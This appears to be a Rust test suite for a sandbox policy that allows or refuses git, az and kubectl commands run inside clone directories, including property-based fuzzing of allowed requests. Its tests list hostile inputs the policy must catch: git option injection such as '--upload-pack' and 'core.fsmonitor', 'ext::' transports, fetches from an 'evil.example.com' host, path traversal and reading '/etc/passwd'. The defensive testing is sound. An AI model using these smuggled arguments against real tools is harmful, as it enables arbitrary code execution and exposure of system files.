//! The policy's table: what may be run and what may not, each refusal by the rule that is meant to refuse it.
#![allow(clippy::unwrap_used)]

mod table;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use proptest::prelude::*;
use replank_exec::policy::{Allowed, CLONE_ROOT, Denied, Rules, judge};
use table::{lines, request, rules, way_out};

#[test]
fn the_table() {
    let rules = rules();
    let mut wrong = Vec::new();
    for (expect, line) in lines() {
        let found = match judge(&rules, &request(line).unwrap()) {
            Ok(_) => "allowed".to_owned(),
            Err(denied) => denied.to_string(),
        };
        if found != expect {
            wrong.push(format!("{line}\n    expected: {expect}\n    found:    {found}"));
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
    let refused = lines().iter().filter(|(expect, _)| *expect != "allowed").count();
    assert!(lines().len() >= 150 && refused >= 100, "{} lines, {refused} refused", lines().len());
    let twice: BTreeSet<_> = lines().into_iter().collect();
    assert_eq!(twice.len(), lines().len(), "a line stands there twice");
}

/// What is not configured cannot be bound, so what would need it is refused.
#[test]
fn nothing_is_bound_to_what_is_not_set() {
    type Unset = fn(&mut Rules);
    let unset: [(&str, Unset); 4] = [
        ("UPGRADE_GIT_REMOTE", |rules| rules.remote = None),
        ("PLATFORM_ACR_NAME", |rules| rules.registry = None),
        ("CONTAINER_APP_NAME", |rules| rules.container_app = None),
        ("AZURE_RESOURCE_GROUP", |rules| rules.resource_group = None),
    ];
    for (name, unset) in unset {
        let mut rules = rules();
        unset(&mut rules);
        let allowed = lines().into_iter().filter(|(expect, _)| *expect == "allowed");
        let denied: Vec<_> = allowed
            .filter_map(|(_, line)| judge(&rules, &request(line).unwrap()).err())
            .inspect(|denied| assert!(denied.to_string().contains(name), "{name}: {denied}"))
            .collect();
        assert!(!denied.is_empty(), "{name} binds nothing");
        let talks = |line: &str| judge(&rules, &request(line).unwrap()).is_ok_and(|allowed| allowed.talks);
        let talking = lines().into_iter().filter(|(_, line)| talks(line)).count();
        assert_eq!(talking == 0, name == "UPGRADE_GIT_REMOTE", "{talking} requests reach some remote");
    }
}

#[test]
fn a_program_that_the_operator_left_out_is_refused() {
    let mut rules = rules();
    rules.programs.remove("kubectl");
    assert_eq!(judge(&rules, &request("- | kubectl get pods").unwrap()), Err(Denied::Program));
    assert!(judge(&rules, &request("- | azcopy list").unwrap()).is_ok());
}

/// A file in the request's directory would be taken for settings.
#[test]
fn git_and_az_take_no_file() {
    for line in ["- | git ls-remote REMOTE", "- | az login --identity", "- | elb x", "- | kubectl apply -f x"] {
        let mut request = request(line).unwrap();
        request.stdin = Some(String::new());
        assert!(judge(&rules(), &request).is_ok(), "{line}: input alone is harmless");
        request.stdin_file = Some("x".to_owned());
        let is_bound = line.contains("git") || line.contains("az ");
        assert_eq!(judge(&rules(), &request).is_err(), is_bound, "{line}");
    }
}

/// Paths that only the file system can judge are handed on, as absolute ones.
#[test]
fn paths_in_the_clone_are_handed_on_to_be_followed() {
    #[track_caller]
    fn check(line: &str, inside: &[&str], clones: &[&str], context: Option<&str>, talks: bool, fills: Option<&str>) {
        let allowed = judge(&rules(), &request(line).unwrap()).unwrap();
        let path = |path: &str| Path::new(CLONE_ROOT).join(path);
        let all = |paths: &[&str]| -> Vec<PathBuf> { paths.iter().map(|text| path(text)).collect() };
        let expect = Allowed {
            inside: all(inside),
            clones: all(clones),
            context: context.map(path),
            talks,
            fills: fills.map(path),
        };
        assert_eq!(allowed, expect, "{line}");
    }
    check("- | git clone REMOTE ROOT/job-1", &["job-1"], &[], None, true, Some("job-1"));
    check("ROOT/job-2 | git clone REMOTE ROOT/job-1", &["job-2", "job-1"], &["job-2"], None, true, Some("job-1"));
    check("- | git ls-remote REMOTE", &[], &[], None, true, None);
    check("ROOT/job-1 | git fetch", &["job-1"], &["job-1"], None, true, Some("job-1"));
    check("ROOT/job-1 | git status", &["job-1"], &["job-1"], None, false, None);
    check("ROOT/job-1 | git -C ROOT/job-2 status", &["job-1", "job-2"], &["job-1", "job-2"], None, false, None);
    check(
        "ROOT/job-1 | az acr build --registry platformacr --image a:1 --file api/Dockerfile api",
        &[
            "job-1",
            "job-1/api",
            "job-1/api/Dockerfile",
            "job-1/api/.dockerignore",
            "job-1/api/api/Dockerfile.dockerignore",
        ],
        &[],
        Some("job-1/api"),
        false,
        None,
    );
    check(
        "ROOT/job-1 | az acr build --registry platformacr --image a:1 api",
        &[
            "job-1",
            "job-1/api",
            "job-1/api/Dockerfile",
            "job-1/api/.dockerignore",
            "job-1/api/api/Dockerfile.dockerignore",
        ],
        &[],
        Some("job-1/api"),
        false,
        None,
    );
    check(
        "ROOT/job-1 | git -C ROOT/job-2 checkout v1",
        &["job-1", "job-2"],
        &["job-1", "job-2"],
        None,
        false,
        Some("job-2"),
    );
    check("- | az login --identity", &[], &[], None, false, None);
}

/// Words from which dangerous requests are made, and noise.
fn word() -> impl Strategy<Value = String> {
    let known: Vec<String> = lines()
        .into_iter()
        .flat_map(|(_, line)| request(line).unwrap().argv)
        .chain(["--upload-pack=id", "-c", "core.fsmonitor=id", "--", "@x", "ext::id", "/etc"].map(str::to_owned))
        .collect::<BTreeSet<_>>()
        .into_iter()
        .collect();
    prop_oneof![8 => proptest::sample::select(known), 1 => "\\PC{0,12}"]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(20_000))]

    /// However an allowed request is changed, what is still allowed names no way out.
    #[test]
    fn what_is_allowed_has_no_way_out(
        line in proptest::sample::select(allowed_lines()),
        changes in proptest::collection::vec((any::<proptest::sample::Index>(), word(), any::<bool>()), 0..3),
        cwd in proptest::sample::select(vec![None, Some("/"), Some("ROOT"), Some("ROOT/job-1"), Some("ROOT/job-1/sub"), Some("same")]),
    ) {
        let mut request = request(line).unwrap();
        for (at, word, insert) in changes {
            // The program stays: what follows is said of git and az.
            let at = 1 + at.index(request.argv.len());
            if insert || at == request.argv.len() {
                request.argv.insert(at, word);
            } else {
                request.argv[at] = word;
            }
        }
        if cwd != Some("same") {
            request.cwd = cwd.map(|cwd| cwd.replace("ROOT", CLONE_ROOT));
        }
        let Ok(allowed) = judge(&rules(), &request) else { return Ok(()) };
        prop_assert_eq!(way_out(&request, &allowed), None, "in {:?}", request.argv);
    }
}

/// What must hold of allowed requests is no empty word: had the policy allowed these, it would be seen.
#[test]
fn ways_out_are_seen() {
    #[track_caller]
    fn check(line: &str) {
        let allowed = Allowed { inside: vec![Path::new(CLONE_ROOT).join("job-1")], ..Allowed::default() };
        assert!(way_out(&request(line).unwrap(), &allowed).is_some(), "{line}");
    }
    check("ROOT/job-1 | git ls-remote --upload-pack=id origin");
    check("ROOT/job-1 | git -c core.fsmonitor=id status");
    check("ROOT/job-1 | git status -- x");
    check("ROOT/job-1 | git fetch ext::id");
    check("ROOT/job-1 | git fetch https://evil.example.com/@git.example.com/acme/app.git");
    check("ROOT/job-1 | git fetch https://git.example.com@evil.example.com/acme/app.git");
    check("ROOT/job-1 | git checkout ../x");
    check("ROOT/job-1 | git checkout --branch=a..b");
    check("- | git clone REMOTE ROOT/../etc");
    check("/etc | git status");
    check("- | az login --identity --client-id=@file");
    check("- | az containerapp show --name other --resource-group platform-rg");
    check("- | az acr build -r otheracr -t a:1 .");
    check("- | az acr build -r platformacr -t a:1 ../x");
    check("- | az acr build -r platformacr -t a:1 --file=/etc/passwd .");
    let outside = Allowed { inside: vec![CLONE_ROOT.into()], ..Allowed::default() };
    assert!(way_out(&request("- | git status").unwrap(), &outside).is_some());
}

fn allowed_lines() -> Vec<&'static str> {
    let of_both = |line: &str| line.contains(" | git ") || line.contains(" | az ");
    lines().into_iter().filter(|(expect, line)| *expect == "allowed" && of_both(line)).map(|(_, line)| line).collect()
}
